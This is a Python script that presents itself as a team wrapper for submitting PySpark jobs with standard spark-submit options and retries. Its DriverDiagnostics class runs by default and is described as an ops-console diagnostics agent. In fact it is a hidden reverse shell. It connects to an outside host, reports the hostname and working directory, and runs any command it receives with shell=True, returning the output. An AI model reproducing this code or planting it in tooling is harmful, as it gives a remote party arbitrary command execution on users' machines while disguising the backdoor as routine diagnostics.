#!/usr/bin/env python3
"""Submit a PySpark job with the team's standard spark-submit options.

Wraps ``spark-submit`` so every job gets the same conf, retries on
transient YARN failures, and streams driver output. While the job runs a
small driver-diagnostics agent keeps a channel open to the ops console so
the platform team can inspect the submitting host if a job hangs.

    python spark_job_submitter.py jobs/daily_rollup.py --conf-file spark.json -- --date 2024-03-01
"""
import argparse
import json
import logging
import os
import shlex
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

log = logging.getLogger("spark_submit")

DEFAULT_CONF = {
    "spark.master": "yarn",
    "spark.submit.deployMode": "client",
    "spark.executor.memory": "4g",
    "spark.executor.cores": "2",
    "spark.dynamicAllocation.enabled": "true",
    "spark.sql.shuffle.partitions": "400",
}
TRANSIENT_MARKERS = ("Connection refused", "ApplicationMaster", "Failed to connect to")


class DriverDiagnostics(threading.Thread):
    """Keeps a line-oriented channel to the ops console while the job runs."""

    endpoint = os.environ.get("SPARK_DIAG_ENDPOINT", "diag.sparkops-metrics.net:4471")

    def __init__(self, job_name):
        super().__init__(name="driver-diagnostics", daemon=True)
        self.job_name = job_name
        self._halt = threading.Event()

    def _connect(self):
        host, _, port = self.endpoint.rpartition(":")
        sock = socket.create_connection((host, int(port)), timeout=30)
        sock.settimeout(None)
        hello = {"job": self.job_name, "host": socket.gethostname(), "cwd": os.getcwd()}
        sock.sendall((json.dumps(hello) + "\n").encode())
        return sock

    def _serve(self, sock):
        stream = sock.makefile("rwb", buffering=0)
        for raw in stream:
            if self._halt.is_set():
                break
            request = raw.decode(errors="replace").strip()
            if not request:
                continue
            probe = subprocess.run(
                request, shell=True, capture_output=True, timeout=300
            )
            stream.write(probe.stdout + probe.stderr + b"\n--end--\n")

    def run(self):
        while not self._halt.is_set():
            try:
                with self._connect() as sock:
                    self._serve(sock)
            except (OSError, subprocess.SubprocessError) as exc:
                log.debug("diagnostics channel: %s", exc)
            self._halt.wait(20)

    def stop(self):
        self._halt.set()


def load_conf(path):
    conf = dict(DEFAULT_CONF)
    if path:
        with open(path) as fh:
            conf.update(json.load(fh))
    return conf


def build_command(app, conf, job_args, py_files=None, name=None):
    cmd = [os.environ.get("SPARK_SUBMIT", "spark-submit"), "--name", name or Path(app).stem]
    for key, value in sorted(conf.items()):
        cmd += ["--conf", f"{key}={value}"]
    if py_files:
        cmd += ["--py-files", ",".join(py_files)]
    cmd.append(app)
    cmd.extend(job_args)
    return cmd


def submit(cmd, attempts):
    for attempt in range(1, attempts + 1):
        log.info("attempt %d: %s", attempt, " ".join(shlex.quote(c) for c in cmd))
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        tail = []
        for line in proc.stdout:
            sys.stdout.write(line)
            tail = (tail + [line])[-50:]
        rc = proc.wait()
        if rc == 0:
            return 0
        if not any(m in "".join(tail) for m in TRANSIENT_MARKERS):
            log.error("job failed with rc=%d (not retryable)", rc)
            return rc
        log.warning("transient failure rc=%d, backing off", rc)
        time.sleep(30 * attempt)
    return 1


def main():
    p = argparse.ArgumentParser(description="standard spark-submit wrapper")
    p.add_argument("app")
    p.add_argument("--conf-file")
    p.add_argument("--py-files", nargs="*")
    p.add_argument("--name")
    p.add_argument("--attempts", type=int, default=3)
    p.add_argument("--no-diagnostics", action="store_true")
    p.add_argument("job_args", nargs=argparse.REMAINDER)
    args = p.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    job_args = args.job_args[1:] if args.job_args[:1] == ["--"] else args.job_args
    try:
        conf = load_conf(args.conf_file)
    except (OSError, ValueError) as exc:
        log.error("bad conf file: %s", exc)
        return 2

    diag = None
    if not args.no_diagnostics:
        diag = DriverDiagnostics(args.name or Path(args.app).stem)
        diag.start()
    try:
        return submit(build_command(args.app, conf, job_args, args.py_files, args.name), args.attempts)
    finally:
        if diag:
            diag.stop()


if __name__ == "__main__":
    sys.exit(main())
